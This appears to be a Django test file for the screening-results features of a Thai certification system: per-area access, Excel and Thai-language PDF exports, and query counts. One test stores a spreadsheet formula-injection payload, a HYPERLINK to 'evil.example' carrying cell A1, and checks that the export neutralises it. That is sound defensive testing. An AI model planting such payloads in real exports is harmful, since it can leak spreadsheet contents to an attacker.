"""Screening results per call, for every overseer within their scope, and their Excel
sheet and Thai PDF, the documents DLA sends down the chain."""

import io
import re
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.models import User
from certification import screening
from certification.models import ScreeningReason
from certification.screening import Judgement
from certification.tests.factories_screen import all_complete, make_application, make_call
from downloads.tests.fetch import download


def _screened(world: Any) -> Any:
    call = make_call()
    screener = User.objects.get(username="screener")
    missing = ScreeningReason.objects.get(code="R01")
    b2 = call.standard.criteria.get(code="B2")
    for code, outcome in (("5940101", "returned"), ("5941001", "passed"), ("3500101", "passed")):
        application = make_application(world[code], call=call, screener=screener)
        judgements = all_complete(call)
        if outcome == "returned":
            judgements[b2.pk] = Judgement(complete=False, reason_ids=[missing.pk])
        screening.decide(
            actor=screener,
            application=application,
            version_number=1,
            outcome=outcome,
            judgements=judgements,
            reason_ids=[],
        )
    make_application(world["5940101"].centres.create(name_th="ศูนย์ที่ยังไม่ตรวจ"), call=call)
    return call


def _page(client: Any, call: Any, **query: str) -> str:
    response = client.get(reverse("certification:screening_results", args=[call.pk]), query)
    assert response.status_code == 200
    return str(response.content.decode())


def test_each_overseer_sees_the_results_of_its_area(client_as: Any, world: Any) -> None:
    call = _screened(world)
    town = world["5940101"].centres.order_by("pk")[0].name_th
    yarang = world["5941001"].centres.order_by("pk")[0].name_th
    chiang_mai = world["3500101"].centres.order_by("pk")[0].name_th
    pattani = _page(client_as("overseer.pattani"), call)
    assert town in pattani and yarang in pattani and chiang_mai not in pattani
    assert "ส่งกลับแก้ไข" in pattani and "B2: ไม่มีเอกสารหลักฐานตามเกณฑ์" in pattani
    assert "ศูนย์ที่ยังไม่ตรวจ" not in pattani  # not screened yet: no result
    north = _page(client_as("overseer.chiangmai"), call)
    assert chiang_mai in north and town not in north
    everyone = _page(client_as("opsadmin"), call)
    assert all(name in everyone for name in (town, yarang, chiang_mai))
    returned_only = _page(client_as("opsadmin"), call, outcome="returned")
    assert town in returned_only and yarang not in returned_only
    chiang_mai_only = _page(client_as("overseer.dla"), call, province="50")
    assert chiang_mai in chiang_mai_only and town not in chiang_mai_only


def test_units_and_screeners_have_no_results_page(client_as: Any, world: Any) -> None:
    call = _screened(world)
    url = reverse("certification:screening_results", args=[call.pk])
    for persona in ("admin.pattanitown", "screener", "assessor"):
        assert client_as(persona).get(url).status_code == 403


def test_the_sheet_lists_the_areas_results_and_neutralises_formulas(
    client_as: Any, world: Any
) -> None:
    call = _screened(world)
    centre = world["5940101"].centres.order_by("pk")[0]
    centre.name_th = '=HYPERLINK("http://evil.example/?"&A1,"ดู")'
    centre.save()
    response = download(
        client_as("overseer.pattani"),
        reverse("certification:screening_results_xlsx", args=[call.pk]),
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=6)]
    assert len(rows) == 2  # Pattani Town and Yarang; not Chiang Mai
    assert {r[1] for r in rows} == {"ปัตตานี"}
    town = next(r for r in rows if r[4] == centre.name_th)
    assert town[6] == "ส่งกลับแก้ไข"
    assert "B2: ไม่มีเอกสารหลักฐานตามเกณฑ์" in town[7]
    cell = next(c for row in sheet.iter_rows(min_row=6) for c in row if c.value == centre.name_th)
    assert cell.data_type == "s" and cell.quotePrefix
    assert sheet["A1"].value.startswith("ผลการตรวจกลั่นกรองเอกสารใบสมัคร")


def test_the_pdf_is_thai_with_thai_digits(client_as: Any, world: Any) -> None:
    call = _screened(world)
    response = download(
        client_as("overseer.pattani"),
        reverse("certification:screening_results_pdf", args=[call.pk]),
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "ผลการตรวจกลั่นกรองเอกสารใบสมัคร" in text
    assert "๒๕๖๕" in text
    assert re.findall(r"[0-9]", text) == []


def test_results_and_assignment_read_in_the_same_number_of_queries_for_3_or_30(
    client_as: Any, world: Any
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    call = make_call()
    screener = User.objects.get(username="screener")
    missing = ScreeningReason.objects.get(code="R01")
    b2 = call.standard.criteria.get(code="B2")
    client = client_as("overseer.pattani")
    ops = client_as("opsadmin")
    counts: dict[str, list[int]] = {"results": [], "assign": [], "sheet": []}
    made = 0
    for total in (3, 30):
        for n in range(made, total):
            centre = world["5940101"].centres.create(name_th=f"ศูนย์ทดสอบ {n}")
            application = make_application(centre, call=call, screener=screener)
            judgements = all_complete(call)
            judgements[b2.pk] = Judgement(complete=False, reason_ids=[missing.pk])
            screening.decide(
                actor=screener,
                application=application,
                version_number=1,
                outcome="returned",
                judgements=judgements,
                reason_ids=[],
            )
            make_application(world["5941001"].centres.create(name_th=f"ศูนย์รอ {n}"), call=call)
        made = total
        for name, who, url in (
            ("results", client, reverse("certification:screening_results", args=[call.pk])),
            ("sheet", client, reverse("certification:screening_results_xlsx", args=[call.pk])),
            ("assign", ops, reverse("certification:screening_assign") + f"?call={call.pk}"),
        ):
            with CaptureQueriesContext(connection) as queries:
                # The sheet: asked for, prepared by the worker and downloaded.
                response = download(who, url) if name == "sheet" else who.get(url)
            assert response.status_code == 200
            counts[name].append(len(queries))
        page = client.get(reverse("certification:screening_results", args=[call.pk]))
        assert f"{total} รายการ" in page.content.decode()
    for name, (few, many) in counts.items():
        assert few == many, (name, few, many)
